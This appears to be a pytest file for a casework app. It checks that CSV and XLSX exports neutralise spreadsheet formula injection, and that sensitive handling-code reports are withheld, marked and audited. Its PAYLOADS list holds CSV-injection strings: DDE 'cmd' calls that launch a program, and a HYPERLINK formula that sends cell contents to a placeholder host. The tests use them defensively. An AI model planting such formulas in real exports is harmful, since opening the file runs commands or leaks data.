"""Exports a spreadsheet cannot be tricked into running (CSV injection), in CSV and XLSX."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select

from fortress.casework.exports import neutralise
from fortress.casework.models import AuditEntry
from fortress.store.workspace import Workspace
from helpers.casework import sign_in

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_made_inert(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("plain", ["+447700900123", "-12.5", "42", "Runner at 4 Example Road", ""])
def test_plain_values_are_left_alone(plain: str) -> None:
    assert neutralise(plain) == plain


def _record_payloads(client: TestClient) -> dict[str, str]:
    headers = sign_in(client, "analyst")
    for payload in PAYLOADS:
        body = {"text": payload, "grade": {"source_evaluation": "2", "assessment": "B",
                "handling_code": "P", "conditions": payload}}  # fmt: skip
        assert client.post("/api/v1/intelligence", json=body, headers=headers).status_code == 201
    return headers


def test_the_csv_export_carries_every_payload_inert(client: TestClient) -> None:
    headers = _record_payloads(client)
    answer = client.get("/api/v1/exports/intelligence?format=csv", headers=headers)
    assert answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))[1:]
    assert rows[0][:6] == ["marking", "id", "grade", "handling code", "handling conditions",
                           "text"]  # fmt: skip
    texts = [row[5] for row in rows[1:]]
    stored = ["'" + p.strip() for p in PAYLOADS]  # reports are stored without outer spaces
    assert sorted(texts[: len(PAYLOADS)]) == sorted(stored)
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_the_xlsx_export_has_no_formula_cells(client: TestClient) -> None:
    headers = _record_payloads(client)
    answer = client.get("/api/v1/exports/intelligence?format=xlsx", headers=headers)
    sheet = load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type == "s" for cell in cells if cell.value is not None)
    texts = {cell.value for cell in cells}
    assert {"'" + p.strip() for p in PAYLOADS} <= texts


def test_an_unknown_format_is_a_clear_4xx(client: TestClient) -> None:
    answer = client.get("/api/v1/exports/intelligence?format=ods",
                        headers=sign_in(client, "analyst"))  # fmt: skip
    assert answer.status_code == 422 and "format" in " ".join(answer.json()["problems"])


def test_control_characters_do_not_break_the_xlsx_export(client: TestClient) -> None:
    headers = sign_in(client, "analyst")
    body = {"text": "bell\x07 and escape\x1b", "grade": {"source_evaluation": "2",
            "assessment": "B", "handling_code": "P"}}  # fmt: skip
    assert client.post("/api/v1/intelligence", json=body, headers=headers).status_code == 201
    answer = client.get("/api/v1/exports/intelligence?format=xlsx", headers=headers)
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None
    assert "bell\ufffd and escape\ufffd" in {c.value for row in sheet.iter_rows() for c in row}


def test_an_intelligence_export_withholds_what_needs_a_supervisor(
    client: TestClient, casework: Workspace
) -> None:
    """A file leaves the system: handling code C (and legacy 2 to 5) goes only through a
    supervisor's approved disclosure, so the export withholds it and says so; every row
    and the file's first line carry the marking, and the export is audited as one."""
    headers = sign_in(client, "analyst")
    for code, text in (("P", "Shareable note"), ("C", "Source-sensitive note")):
        conditions = "CPS only" if code == "C" else None
        body = {"text": text, "grade": {"source_evaluation": "2", "assessment": "B",
                "handling_code": code, "conditions": conditions}}  # fmt: skip
        assert client.post("/api/v1/intelligence", json=body, headers=headers).status_code == 201
    answer = client.get("/api/v1/exports/intelligence?format=csv&q=note", headers=headers)
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    marking, note = rows[0][0], rows[0][1]
    assert marking == "OFFICIAL-SENSITIVE"
    assert note.startswith("1 report exported; 1 report withheld") and "disclosure" in note
    assert rows[1][:5] == ["marking", "id", "grade", "handling code", "handling conditions"]
    (shared,) = rows[2:]
    assert shared[0] == "OFFICIAL-SENSITIVE" and shared[3] == "P" and "Shareable note" in shared
    assert "Source-sensitive" not in answer.text
    workbook = client.get("/api/v1/exports/intelligence?format=xlsx&q=note", headers=headers)
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert sheet is not None and sheet["A1"].value == "OFFICIAL-SENSITIVE"
    with casework.sessions() as session:
        last = session.scalars(select(AuditEntry).order_by(AuditEntry.seq.desc())).first()
    assert last is not None and (last.action, last.record_type) == ("disclosure", "intelligence")
    assert json.loads(last.record_ids) == [shared[1]] and last.recipient == "export file (analyst)"
